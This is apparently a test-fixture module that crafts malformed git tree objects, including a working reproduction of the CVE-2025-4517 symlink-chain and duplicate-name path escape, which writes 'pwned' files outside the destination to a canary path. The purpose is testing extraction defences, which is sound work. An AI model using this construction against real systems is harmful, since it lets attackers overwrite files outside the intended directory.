"""
Hostile git objects for tests: raw tree objects written straight into a real
repository, so symlinks, repeated names and entry order are the attacker's
(``git fetch`` accepts such trees; only ``git fsck`` flags them).
"""

import os
import subprocess

LINK, TREE, FILE, EXEC = "120000", "40000", "100644", "100755"


def git(repo, *args, data=None):
    done = subprocess.run(["git", "-C", repo, *args], input=data, capture_output=True, check=True)
    return done.stdout.decode().strip()


def blob(repo, content):
    return git(repo, "hash-object", "-w", "--stdin", data=content.encode())


def tree(repo, entries):
    """A raw tree object from (mode, name, sha) in the given order, duplicates allowed."""
    raw = b"".join(f"{mode} {name}".encode() + b"\0" + bytes.fromhex(sha) for mode, name, sha in entries)
    return git(repo, "hash-object", "-w", "-t", "tree", "--literally", "--stdin", data=raw)


def commit(repo, tree):
    env = dict(os.environ, GIT_AUTHOR_NAME="a", GIT_AUTHOR_EMAIL="a@x", GIT_COMMITTER_NAME="a",
               GIT_COMMITTER_EMAIL="a@x")
    return subprocess.run(["git", "-C", repo, "commit-tree", tree, "-m", "hostile"], env=env,
                          capture_output=True, check=True).stdout.decode().strip()


def cve_2025_4517_tree(repo, dest, canary):
    """
    The published CVE-2025-4517 shape as a git tree: a chain of symlinks
    whose expansion exceeds PATH_MAX (so ``os.path.realpath`` stops resolving
    and the ``data`` filter believes the path stays inside), then a repeated
    name: ``escape`` as a symlink through that chain, and ``escape`` as a
    tree whose files land wherever the link points.
    """
    steps = "abcdefghijklmnop"
    component = "d" * ((os.pathconf("/", "PC_PATH_MAX") - len(dest) - 1) // (len(steps) + 1))
    empty = blob(repo, "x")
    # innermost: p/lll -> ../ * 16 (points back at dest); wrap trees letter by letter
    chain = tree(repo, [(LINK, "l" * 254, blob(repo, os.path.join(*[".."] * len(steps))))])
    for letter in reversed(steps[1:]):
        chain = tree(repo, [(TREE, letter, chain)])
    # real dirs ddd/ddd/... each holding the next letter as a symlink to ddd
    nested = tree(repo, [(FILE, "keep", empty)])
    for letter in reversed(steps[1:]):
        nested = tree(repo, [(TREE, component, nested), (LINK, letter, blob(repo, component))])
    up = len([p for p in dest.split(os.sep) if p])
    target = os.path.join(*steps, "l" * 254, *[".."] * up, str(canary).lstrip("/"))
    escape = tree(repo, [(FILE, "flag", blob(repo, "pwned")), (FILE, "newfile", blob(repo, "new"))])
    return tree(repo, [
        (TREE, component, nested), (LINK, "a", blob(repo, component)), (TREE, "a", chain),
        (LINK, "escape", blob(repo, target)), (TREE, "escape", escape),
    ])
